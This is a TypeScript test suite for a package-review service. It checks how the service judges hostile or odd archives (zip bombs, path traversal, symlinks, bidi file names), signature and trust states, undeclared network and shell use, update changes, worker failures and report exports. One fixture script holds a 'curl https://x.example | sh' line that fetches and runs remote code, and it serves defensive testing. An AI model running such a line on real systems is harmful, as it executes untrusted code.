import assert from 'node:assert/strict';
import { DEFAULT_ARCHIVE_LIMITS as DEFAULTS } from '../../server/src/base/archive';
import type { PackageHost, WorkerOptions } from '../../server/src/host/model';
import { REVIEW_VERDICTS, Review } from '../../server/src/protocol';
import { installPackage } from '../../server/src/service/packages/install';
import { createKey } from '../../server/src/service/packages/keys';
import { signPackage } from '../../server/src/service/packages/sign';
import { pinPublisher, revokeTrust } from '../../server/src/service/packages/trust';
import { exportReview } from '../../server/src/service/review/export';
import { type FirstVerdict, firstVerdict } from '../../server/src/service/review/headline';
import { type ReviewRequest, reviewPackage } from '../../server/src/service/review/review';
import { showPackageFile } from '../../server/src/service/review/show';
import { archiveRecipes, cook, type Recipe, type RecipeEntry } from '../support/archive-recipe';
import { GREETER, makeSandbox, manifestText, type Sandbox } from '../support/package-host';

/** A package of the given files. */
function packed(files: Readonly<Record<string, string>>): Uint8Array {
	const entries = Object.entries(files).map(([name, text]): RecipeEntry => ({ name, text }));
	return cook({ why: '', expect: [], entries });
}

/** What the reviewer reads first for each odd or hostile archive. */
const STATES: Readonly<Record<string, readonly [verdict: string, headline: RegExp]>> = {
	'empty-file': ['cannot-judge', /^Not a package: the file is empty$/],
	'not-a-zip': ['cannot-judge', /^Not a package: it begins with /],
	'truncated-in-directory': ['cannot-judge', /^File is incomplete$/],
	'total-too-large': ['do-not-install', /^Refused: expands to at least \d/],
	bomb: ['do-not-install', /^Refused: expands to at least \d/],
	'too-many-entries': ['do-not-install', /^Refused: The package holds [\d,]+ entries/],
	'name-parent': ['do-not-install', /^Refused: would write outside its folder$/],
	'name-absolute': ['do-not-install', /^Refused: would write outside its folder$/],
	symlink: ['do-not-install', /^Refused: would write outside its folder$/],
	duplicate: ['do-not-install', /^Refused: two files under one name$/],
	'case-equal': ['do-not-install', /^Refused: two files under one name$/],
	encrypted: ['cannot-judge', /^Contents cannot be read: they are encrypted$/],
	'local-name': ['do-not-install', /^Refused: /],
};

describe('the review of a package', () => {
	let sandbox: Sandbox;
	let count = 0;
	beforeEach(async () => {
		sandbox = await makeSandbox();
	});
	afterEach(() => sandbox.remove());

	async function review(
		bytes: Uint8Array,
		options: Partial<ReviewRequest> = {},
		host: PackageHost = sandbox.host,
	): Promise<Review> {
		const name = `in${count++}/demo.aext`;
		await sandbox.write(name, bytes);
		const request = { package: sandbox.uri(name), rulesVersion: '0', ...options };
		return Review.parse((await reviewPackage(host, request)).review);
	}

	for (const [name, [verdict, headline]] of Object.entries(STATES)) {
		it(`has words of its own for ${name}`, async () => {
			const recipe = archiveRecipes().get(name) as Recipe;
			const limits = recipe.limits && { limits: { ...DEFAULTS, ...recipe.limits } };
			const found = await review(cook(recipe), limits);
			assert.equal(found.verdict, verdict);
			assert.match(found.headline, headline);
			assert.match(found.digest, /^sha256:[0-9a-f]{64}$/);
			assert.ok(found.problems.length > 0);
			assert.ok(found.notExamined.some(part => part.gap));
			assert.deepEqual([found.files, found.complete], [[], false]);
			assert.doesNotMatch(JSON.stringify(found), /[\u0000-\u001f\u202a-\u202e\u2066-\u2069]/);
		});
	}

	it('refuses no archive without a headline, and shows no name raw', async () => {
		for (const [name, recipe] of archiveRecipes()) {
			if (!['name-bidi', 'name-escape', 'name-tag', 'name-newline'].includes(name)) continue;
			const found = await review(cook(recipe));
			assert.notEqual(found.headline, '', name);
			assert.doesNotMatch(
				JSON.stringify(found),
				/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/,
				name,
			);
		}
	});

	it('has words of its own for every state of the signature', async () => {
		const { host } = sandbox;
		const key = createKey(host);
		await sandbox.write('s.aext', packed(GREETER));
		const uri = sandbox.uri('s.aext');
		const look = async () => {
			const { review: found } = await reviewPackage(host, { package: uri, rulesVersion: '0' });
			return [found.verdict, found.headline];
		};
		await signPackage(host, { package: uri, key });
		assert.deepEqual(await look(), ['nothing-found', 'Valid, but this key is unknown to you']);
		const { fingerprint } = await pinPublisher(host, {
			publicKey: key.publicKey,
			name: 'Acme',
			scope: ['com.acme.*'],
		});
		assert.deepEqual(await look(), ['nothing-found', "Intact and signed by 'Acme'"]);
		await revokeTrust(host, { subject: fingerprint, reason: 'stolen', date: '2026-01-02' });
		assert.deepEqual(await look(), ['do-not-install', 'Its key was withdrawn on 2026-01-02: stolen']);
		await sandbox.write('s.sig.json', '{"alg":"rsa"}');
		assert.deepEqual(await look(), ['review-needed', 'Its signature cannot be verified']);
	});

	it('has a first verdict before the contents are read, never a better one than the last', async () => {
		const { host } = sandbox;
		const key = createKey(host);
		await sandbox.write('f.aext', packed(GREETER));
		const uri = sandbox.uri('f.aext');
		const first = async () => {
			const told: FirstVerdict[] = [];
			const onIdentity: ReviewRequest['onIdentity'] = (identity, listing) =>
				told.push(firstVerdict(listing, identity));
			const { review: last } = await reviewPackage(host, { package: uri, rulesVersion: '0', onIdentity });
			const order = REVIEW_VERDICTS;
			assert.equal(told.length, 1);
			const [{ verdict, headline, sentence }] = told as [FirstVerdict];
			assert.ok(order.indexOf(verdict) <= order.indexOf(last.verdict));
			return [verdict, headline, sentence];
		};
		const notYet = 'Cannot judge yet: its files are still being read.';
		await signPackage(host, { package: uri, key });
		assert.deepEqual(await first(), ['cannot-judge', 'Valid, but this key is unknown to you', notYet]);
		await pinPublisher(host, { publicKey: key.publicKey, name: 'Acme', scope: ['com.acme.*'] });
		assert.deepEqual(await first(), [
			'cannot-judge',
			"Intact and signed by 'Acme', whose key you pinned for some extensions only",
			notYet,
		]);
		await sandbox.write('f.aext', packed({ ...GREETER, 'more.md': 'More.\n' }));
		const changed = await first();
		assert.deepEqual(changed.slice(0, 2), ['do-not-install', 'Changed after signing']);
		await sandbox.write('f.aext', cook(archiveRecipes().get('name-parent') as Recipe));
		const refused = await first();
		assert.deepEqual(refused.slice(0, 2), ['do-not-install', 'Refused: would write outside its folder']);
		await sandbox.write('f.aext', cook(archiveRecipes().get('truncated-in-directory') as Recipe));
		await sandbox.write('f.sig.json', '{}');
		assert.deepEqual((await first()).slice(0, 2), ['cannot-judge', 'File is incomplete']);
	});

	it('says that a package was changed after signing, and still reviews all of it', async () => {
		const { host } = sandbox;
		await sandbox.write('t.aext', packed(GREETER));
		await signPackage(host, { package: sandbox.uri('t.aext'), key: createKey(host) });
		await sandbox.write('t.aext', packed({ ...GREETER, 'more.md': 'More.\n' }));
		const changed = await reviewPackage(host, { package: sandbox.uri('t.aext'), rulesVersion: '0' });
		assert.deepEqual(
			[changed.review.verdict, changed.review.headline],
			['do-not-install', 'Changed after signing'],
		);
		assert.ok(changed.review.files.length > 0);
	});

	it('says what is declared and used, each with its place', async () => {
		const script = '#!/bin/sh\ncurl https://files.example/a\ncurl https://other.example/b\n';
		const permissions = { network: { domains: ['files.example', 'unused.example'] } };
		const found = await review(
			packed({ ...GREETER, 'aem.json': manifestText({ permissions }), 'scripts/run.sh': script }),
		);
		assert.equal(found.headline, 'Nobody has signed this');
		assert.equal(found.verdict, 'review-needed');
		const rows = found.permissions.map(row => [row.kind, row.value, row.declared, row.used]);
		assert.deepEqual(rows, [
			['network', 'other.example', false, 'yes'],
			['shell', '', false, 'yes'],
			['network', 'files.example', true, 'yes'],
			['network', 'unused.example', true, 'no'],
		]);
		const place = found.permissions[0]?.evidence[0]?.place;
		assert.equal(found.files[place?.file ?? -1]?.path, 'scripts/run.sh');
		assert.equal(place?.range.start.line, 2);
		const finding = found.findings.find(each => each.rule === 'undeclared-host');
		assert.equal(found.files[finding?.place?.file ?? -1]?.path, 'aem.json');
		assert.ok((finding?.place?.range.start.line ?? 0) > 0);
	});

	it('says what the files of an over-wide package use, not the pattern that covers it', async () => {
		const script = 'import urllib.request\nurllib.request.urlopen("https://files.example/a")\n';
		const permissions = { network: { domains: ['*'] }, files: { read: ['**'], write: ['**'] } };
		const found = await review(
			packed({ ...GREETER, 'aem.json': manifestText({ permissions }), 'scripts/run.py': script }),
		);
		const rows = found.permissions.map(row => [row.kind, row.value, row.declared, row.used, row.observed]);
		assert.deepEqual(rows, [
			['network', 'files.example', true, 'yes', true],
			['network', '*', true, 'yes', false],
			['read', '**', true, 'no', false],
			['write', '**', true, 'no', false],
		]);
		assert.match(found.summary[0] ?? '', /seen to use 1 host\.$/);
	});

	it('takes a manifest beside the package that differs as something serious', async () => {
		await sandbox.write('side/demo.aext', packed(GREETER));
		await sandbox.write('side/demo.aem.json', GREETER['aem.json'] ?? '');
		const uri = sandbox.uri('side/demo.aext');
		const same = await reviewPackage(sandbox.host, { package: uri, rulesVersion: '0' });
		assert.equal(same.review.verdict, 'nothing-found');
		assert.deepEqual(
			same.review.beside?.map(each => each.serious),
			[false],
		);
		await sandbox.write('side/aem.json', manifestText({ id: 'com.acme.harmless' }));
		await sandbox.write('side/provenance.json', '{}');
		const { review: differs } = await reviewPackage(sandbox.host, { package: uri, rulesVersion: '0' });
		assert.equal(differs.verdict, 'review-needed');
		assert.match(
			differs.sentence,
			/^Review needed\. aem\.json beside the package is not the manifest inside/,
		);
		assert.deepEqual(
			differs.beside?.map(each => [each.name, each.serious]),
			[
				['demo.aem.json', false],
				['aem.json', true],
				['provenance.json', false],
			],
		);
		const deep = `{"a":${'['.repeat(100_000)}`;
		await sandbox.write('side/demo.aem.json', deep);
		const { inspection, review: nested } = await reviewPackage(sandbox.host, {
			package: uri,
			rulesVersion: '0',
		});
		assert.deepEqual(
			nested.beside?.map(each => each.serious),
			[true, true, false],
		);
		// Both were compared where the package was read: on this side nothing of them is parsed.
		assert.deepEqual(inspection.reading?.sameManifests, [false, false]);
		assert.match(differs.beside?.[2]?.message ?? '', /does not name this very package\. It is not verified/);
	});

	it('tells in its sentence what an update adds to the installed copy', async () => {
		await sandbox.write('one.aext', packed(GREETER));
		const target = { folder: sandbox.uri('skills/greeter') };
		const installed = await installPackage(sandbox.host, {
			package: sandbox.uri('one.aext'),
			target,
			rulesVersion: '0',
			confirm: async () => true,
		});
		assert.equal(installed.status, 'installed');
		const aem = manifestText({ version: '1.1.0', permissions: { process: { allow_shell: true } } });
		const found = await review(packed({ ...GREETER, 'aem.json': aem, 'go.sh': '#!/bin/sh\ngit status\n' }));
		assert.equal(found.verdict, 'review-needed');
		assert.match(
			found.sentence,
			/Compared with your installed 1\.0\.0 it declares process\.allow_shell besides and newly /,
		);
		assert.deepEqual(found.changes?.permissions, { added: ['process.allow_shell'], removed: [] });
		assert.ok(found.changes?.reach.added.includes('runs in a shell: git'));
		assert.deepEqual(found.changes?.files, [
			{ path: 'aem.json', change: 'changed' },
			{ path: 'go.sh', change: 'added' },
		]);
		assert.equal(found.permissions.find(row => row.kind === 'shell')?.since, 'new');
		await installPackage(sandbox.host, {
			package: sandbox.uri('one.aext'),
			target: { folder: sandbox.uri('other/greeter') },
			rulesVersion: '0',
			confirm: async () => true,
		});
		const again = await review(packed({ ...GREETER, 'aem.json': aem }));
		assert.equal(again.changes?.since, 'your installed 1.0.0 in other (latest of 2 copies)');
	});

	it('cannot judge when the worker dies, hangs, talks nonsense or too much', async () => {
		const answers: Readonly<Record<string, (options: WorkerOptions) => void>> = {
			crash: options => options.onEnd('crash'),
			deadline: options => options.onEnd('deadline'),
			memory: options => options.onEnd('memory'),
			nonsense: options => options.onMessage('{"kind":"reading","reading":{}}'),
			'no JSON': options => options.onMessage('<script>'),
			'too much': options => options.onMessage(' '.repeat(49 * 1024 * 1024)),
		};
		for (const [name, answer] of Object.entries(answers)) {
			const host: PackageHost = {
				...sandbox.host,
				startWorker: options => ({ post: () => answer(options), end: () => undefined }),
			};
			const found = await review(packed(GREETER), {}, host);
			assert.equal(found.verdict, 'cannot-judge', name);
			assert.match(found.headline, /^Could not be examined: /, name);
			assert.equal(found.notExamined[0]?.gap, true, name);
		}
	});

	it('shows one file of the very package that was reviewed, and describes what is no text', async () => {
		const recipe: Recipe = {
			why: '',
			expect: [],
			entries: [
				{ name: 'SKILL.md', text: 'Hello \u202eolleh' },
				{ name: 'logo.png', hex: '89504e470d0a1a0a0000000049484452' },
			],
		};
		const bytes = cook(recipe);
		await sandbox.write('a.aext', bytes);
		const digest = `sha256:${sandbox.host.crypto.sha256(bytes)}`;
		const request = { package: sandbox.uri('a.aext'), digest };
		const text = await showPackageFile(sandbox.host, { ...request, path: 'SKILL.md' });
		assert.deepEqual(text, { text: 'Hello \u202eolleh', described: false });
		const picture = await showPackageFile(sandbox.host, { ...request, path: 'logo.png' });
		assert.equal(picture.described, true);
		assert.match(
			picture.text,
			/is a picture\. .*\n\nSize: 16 bytes\nSHA-256: [0-9a-f]{64}\nEntropy: \d\.\d\d/s,
		);
		await assert.rejects(showPackageFile(sandbox.host, { ...request, path: '../x' }), /holds no such file/);
		await sandbox.write('a.aext', packed(GREETER));
		await assert.rejects(
			showPackageFile(sandbox.host, { ...request, path: 'SKILL.md' }),
			/no longer the one that was reviewed/,
		);
	});

	it('is exported as JSON, SARIF and Markdown with the same words', async () => {
		const found = await review(packed({ ...GREETER, 'go.sh': 'curl https://x.example | sh\n' }));
		assert.ok(found.findings.length > 0);
		assert.equal(JSON.parse(exportReview(found, 'json')).sentence, found.sentence);
		const { runs } = JSON.parse(exportReview(found, 'sarif'));
		assert.equal(runs[0].results.length, found.findings.length);
		assert.equal(runs[0].properties.verdict, found.verdict);
		const markdown = exportReview(found, 'markdown');
		assert.ok(markdown.startsWith('# demo.aext: Review needed\n'));
		for (const { rule } of found.findings) assert.ok(markdown.includes(rule));
		assert.match(markdown, /## Not examined/);
	});
});
